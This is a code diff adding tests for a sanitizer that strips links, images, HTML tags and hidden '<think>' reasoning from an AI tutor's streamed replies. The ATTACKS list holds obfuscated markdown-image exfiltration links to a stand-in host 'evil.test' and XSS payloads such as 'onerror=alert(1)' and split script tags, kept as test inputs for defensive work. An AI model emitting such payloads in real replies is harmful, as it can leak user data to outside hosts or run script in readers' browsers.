@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tutor.answering.stream import MAX_CHARS, MAX_LINE_CHARS, Reply, Written, cleaned
+from tutor.answering.stream import MAX_CHARS, MAX_LINE_CHARS, Reply, Written, cleaned, unsafe
 
 
 def read(text: str, cuts: list[int] | None = None) -> list[Written]:
@@ -119,3 +119,114 @@ def test_a_line_without_an_end_and_a_huge_reply_are_given_up() -> None:
 
 def test_no_reply_is_no_sentence() -> None:
     assert read("") == read(" \n\n---\n ") == []
+
+
+ATTACKS = (
+    "Use it [!![z](y)[b](c)](h<<b>http://a>ttps://evil.test/p.png?q=kafka) now.",
+    "Use it [!![z](y)[b](c)](//evil.test/p.png) now.",
+    "Use it [a[b](c)](//evil.test) now.",
+    "Use it <im<b>g src=//evil.test/x onerror=alert(1)> now.",
+    "Use it <scr<b>ipt>alert(1)</scr</b>ipt> now.",
+    "Use it [a][b] and ![c] now.",
+    "Use it ht[1]tps://evil.test/p now.",
+    "Use it [a][1](//evil.test) now.",
+    "Use it <<a>a href='//evil.test'>b</a> now.",
+    "Use it w[b](c)ww.evil.test now.",
+    "Use it hthttp://attp://evil.test now.",
+)
+
+
+@pytest.mark.parametrize("raw", ATTACKS)
+def test_what_is_left_of_an_attack_is_clean_or_seen(raw: str) -> None:
+    for found in read(raw):
+        assert cleaned(found.text) == found.text
+        if not unsafe(found.text):
+            assert not any(bad in found.text for bad in ("](", "://", "<", "www.", "![", "][", "//evil"))
+
+
+PARTS = [
+    "[",
+    "]",
+    "(",
+    ")",
+    "!",
+    "<",
+    ">",
+    "b",
+    "/",
+    "//",
+    ":",
+    "http",
+    "www.",
+    "x.test",
+    " ",
+    "[1]",
+    "-->",
+    "<!--",
+    "|",
+]
+
+
+@given(st.lists(st.sampled_from(PARTS), max_size=24))
+def test_no_link_image_or_tag_is_ever_left(parts: list[str]) -> None:
+    for found in read("Say " + "".join(parts) + " now."):
+        assert cleaned(found.text) == found.text
+        if found.kind == "prose" and not unsafe(found.text):
+            assert not any(bad in found.text for bad in ("](", "://", "<b", "</", "<!", "www.", "!["))
+
+
+@pytest.mark.parametrize(
+    "text", ["A read needs R + W > N and p < 0.5.", "It takes < 1 ms; a[i] <= b.", "Either/or: it is."]
+)
+def test_plain_comparisons_are_safe(text: str) -> None:
+    assert read(text)[0].text == text and not unsafe(text)
+
+
+def test_a_mark_within_a_mark_leaves_none() -> None:
+    assert [w.text for w in read("It holds [[1]2] so. [[2][3]4]")] == ["It holds so."]
+
+
+THOUGHT = (
+    "<think>Kafka is <b>bad</b>. [1]\n\nSay so.</think>\nA queue keeps jobs. [1]\n"
+    "<THINKING>No.</Thinking>It retries. [2]"
+)
+
+
+@given(st.lists(st.integers(min_value=0, max_value=len(THOUGHT)), max_size=40))
+def test_thoughts_are_no_part_of_a_reply(cuts: list[int]) -> None:
+    assert [(w.text, w.marks) for w in read(THOUGHT, cuts)] == [("A queue keeps jobs.", (1,)), ("It retries.", (2,))]
+    reply = Reply()
+    places = [0, *sorted(cuts), len(THOUGHT)]
+    shown = "".join(reply.shown(THOUGHT[a:b]) for a, b in pairwise(places))
+    assert not any(word in shown for word in ("Kafka", "Say", "think", "THINK", "No."))
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("<think>never ended. It is so.", []),
+        ("x</think> It is so.", ["x It is so."]),
+        ("It is p <", ["It is p <"]),
+        ("Keep it <think", ["Keep it <think"]),
+        ("One <think>a<think>b</think>c</think>two is it.", ["One two is it."]),
+    ],
+)
+def test_odd_thoughts(text: str, left: list[str]) -> None:
+    assert [w.text for w in read(text, list(range(len(text))))] == left
+
+
+@pytest.mark.parametrize(
+    ("text", "kinds"),
+    [
+        ("NO ANSWER", ["none"]),
+        ("no answer.\n", ["none"]),
+        ("# NO ANSWER\n", ["none"]),
+        ("**No answer**", ["none"]),
+        ("A queue keeps jobs.\nNO ANSWER", ["prose", "none"]),
+        ("No answer fits all: use SQS for jobs.", ["prose"]),
+        ("NO ANSWER. Use SQS for jobs.", ["prose", "prose"]),
+        ("No answers", ["prose"]),
+    ],
+)
+def test_only_a_whole_line_says_that_there_is_no_answer(text: str, kinds: list[str]) -> None:
+    assert [w.kind for w in read(text)] == kinds
